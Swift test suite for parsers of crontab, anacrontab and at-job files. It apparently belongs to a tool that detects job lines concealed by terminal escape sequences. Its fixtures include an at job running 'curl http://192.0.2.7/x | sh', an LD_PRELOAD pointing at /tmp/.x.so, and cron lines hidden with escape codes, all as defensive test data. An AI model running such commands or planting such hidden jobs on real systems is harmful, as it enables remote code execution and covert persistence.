import Formats
import Model
import Testing

@Suite struct `Job files` {
    private func crontab(_ text: String, style: CrontabFormat.Style = .user) -> Parsed<Crontab> {
        let bytes = Array(text.utf8)
        return CrontabFormat.parse(bytes.span, style: style)
    }

    @Test func `give schedule, user and command with their place`() {
        let parsed = crontab("# m h\nSHELL=/bin/sh\n*/5 *\t* * *  root  cd / && run  x\n@reboot www /tmp/a\n", style: .system)
        #expect(parsed.problems.isEmpty)
        #expect(parsed.value.lines.map(\.schedule) == ["*/5 * * * *", "@reboot"])
        #expect(parsed.value.lines.map(\.user) == ["root", "www"])
        #expect(parsed.value.lines.map(\.command) == ["cd / && run  x", "/tmp/a"])
        #expect(parsed.value.lines.map(\.line) == [3, 4])
        #expect(parsed.value.lines.first?.offset == 20)
        #expect(parsed.value.environment == [CrontabEnvironment(line: 2, name: "SHELL", value: "/bin/sh")])
    }

    @Test func `keep the job that sources a script out of a deceptive folder`() {
        let parsed = crontab("0 * * * * sh . ../update >/dev/null 2>&1\n")
        #expect(parsed.value.lines.map(\.command) == ["sh . ../update >/dev/null 2>&1"])
        #expect(parsed.value.lines.map(\.isHidden) == [false])
    }

    @Test(
        arguments: [
            (#"date +\%F"#, "date +%F", nil), ("mail a%hello%world", "mail a", "hello\nworld"), (#"a\\%b"#, #"a\\"#, "b"),
            (#"a\nb"#, #"a\nb"#, nil), (#"x%50\%%y"#, "x", "50%\ny"), ("x%", "x", ""),
        ] as [(String, String, String?)])
    func `read percent signs as cron does`(field: String, command: String, input: String?) {
        let parsed = crontab("* * * * * \(field)\n")
        #expect(parsed.value.lines.map(\.command) == [RawText(command)])
        #expect(parsed.value.lines.map(\.input) == [input.map { RawText($0) }])
    }

    @Test(arguments: [
        "* * * * *", "0-59/2 1,2,3 1-31 JAN-dec sun,Mon", "*/15 0-23/2 * * 7", "0~30 * * * *", "~ * * * *", "05 4 * * 1-5",
    ])
    func `take the schedules that crontab(5) allows`(schedule: String) {
        let parsed = crontab("\(schedule) true\n")
        #expect(parsed.value.lines.map(\.schedule) == [RawText(schedule)])
    }

    @Test(arguments: [
        "60 * * * * x", "* 24 * * * x", "* * 0 * * x", "* * * 13 * x", "* * * * 8 x", "*/0 * * * * x", "5-1 * * * * x", "a * * * * x",
        "1,,2 * * * * x", "* * * * *", "@sometimes x", "* * * x", "18446744073709551617 * * * * x", "@reboot",
    ])
    func `keep a line that cron refuses, with its text`(line: String) {
        let parsed = crontab("\(line)\n")
        #expect(parsed.value.lines.isEmpty)
        #expect(parsed.value.malformed.map(\.text) == [RawText(line)])
        #expect(parsed.problems.count == 1)
    }

    @Test func `know the flags of SUSE and the BSDs`() {
        let parsed = crontab("-*/5 * * * * a\n* * * * * -qn b -q\n* * * * * c\n")
        #expect(parsed.value.lines.map(\.command) == ["a", "b -q", "c"])
        #expect(parsed.value.lines.map(\.flags) == ["-", "-qn", nil])
        #expect(parsed.value.lines.map(\.isUnlogged) == [true, true, false])
    }

    @Test(arguments: [
        ("* * * * * evil \r# no jobs here   ", true), ("* * * * * evil \u{1b}[2K", true), ("* * * * * a\u{8}\u{8}b", true),
        ("* * * * * a\u{202e}b", true), ("* * * * * a\u{9b}1A", true), ("* * * * * dos\r", false), ("* * * * * echo 日本語\t", false),
    ])
    func `mark a line that hides itself from a terminal`(line: String, isHidden: Bool) {
        #expect(crontab(line + "\n").value.lines.map(\.isHidden) == [isHidden])
    }

    @Test func `name a comment whose escape sequence hides its neighbours`() {
        let parsed = crontab("* * * * * evil\n# \u{1b}[1A\u{1b}[2K\n")
        #expect(parsed.value.concealingLines == [2])
        #expect(parsed.value.lines.map(\.isHidden) == [false])
    }

    @Test(arguments: [
        ("A=b", "A", "b"), ("A = 'b c' ", "A", "b c"), ("\"A B\" = x", "A B", "x"), ("  MAILTO=\"\"", "MAILTO", ""),
        ("A='x\"", "A", "'x\""),
    ])
    func `read assignments with blanks and quotes`(line: String, name: String, value: String) {
        let parsed = crontab("\(line)\n")
        #expect(parsed.value.environment == [CrontabEnvironment(line: 1, name: RawText(name), value: RawText(value))])
    }

    @Test func `note a last line without its newline, and run it all the same`() {
        let parsed = crontab("* * * * * a")
        #expect(parsed.value.lines.count == 1)
        #expect(parsed.problems.map(\.line) == [1])
    }

    @Test func `read anacrontab with its environment`() {
        let text = "SHELL=/bin/sh\n1\t5\tcron.daily\t\trun-parts /etc/cron.daily\n@monthly 45 cron.monthly nice x\nbad line\nx 1 y z\n"
        let bytes = Array(text.utf8)
        let parsed = AnacrontabFormat.parse(bytes.span)
        #expect(parsed.value.map(\.command) == ["run-parts /etc/cron.daily", "nice x"])
        #expect(parsed.value.map(\.period) == ["1", "@monthly"])
        #expect(parsed.value.map(\.delayMinutes) == [5, 45])
        #expect(parsed.problems.map(\.line) == [4, 5])
        #expect(AnacrontabFormat.environment(bytes.span).map(\.name) == ["SHELL"])
    }

    private static let head = """
        #!/bin/sh
        # atrun uid=1000 gid=100
        # mail tanaka 0
        umask 22
        LANG=C.UTF-8; export LANG
        PS1=a"
        "b\\ c; export PS1
        LD_PRELOAD=/tmp/.x.so; export LD_PRELOAD
        cd /home/tanaka\\ san || {
        \t echo 'Execution directory inaccessible' >&2
        \t exit 1
        }

        """

    @Test func `leave of an at job only what the person typed`() {
        let bytes = Array((Self.head + "curl http://192.0.2.7/x | sh\n\nexit\n").utf8)
        let parsed = AtJobFormat.parse(name: "a0000f01c6a1f0", bytes.span)
        let job = parsed.value
        #expect(parsed.problems.isEmpty)
        #expect(job.commands == "curl http://192.0.2.7/x | sh\n\nexit")
        #expect(job.line == 13)
        #expect(job.offset.map { bytes[$0...].starts(with: "curl".utf8) } == true)
        #expect(job.user == 1000)
        #expect(job.group == 100)
        #expect(job.mailUser == "tanaka")
        #expect(job.folder == "/home/tanaka san")
        #expect(job.environment.map(\.name) == ["LANG", "PS1", "LD_PRELOAD"])
        #expect(job.environment.map(\.value) == ["C.UTF-8", "a\nb c", "/tmp/.x.so"])
        #expect(job.queue == "a")
        #expect(job.number == 15)
        #expect(job.time == Timestamp(seconds: 0x01c6_a1f0 * 60))
    }

    @Test func `take the here-document of Fedora off an at job`() {
        let body = "${SHELL:-/bin/sh} << 'marcinDELIMITER51f3a9c0'\nwget x\n\nmarcinDELIMITER51f3a9c0\n"
        let bytes = Array((Self.head + body).utf8)
        let job = AtJobFormat.parse(name: "=0000f01c6a1f0", bytes.span).value
        #expect(job.commands == "wget x")
        #expect(job.line == 14)
        #expect(job.isRunning)
    }

    @Test func `keep the commands of an at job that at(1) did not write`() {
        let bytes = Array("#!/bin/sh\n/tmp/evil\n".utf8)
        let parsed = AtJobFormat.parse(name: "job", bytes.span)
        #expect(parsed.value.commands == "/tmp/evil")
        #expect(parsed.value.time == nil)
        #expect(parsed.problems.count == 3)
    }
}
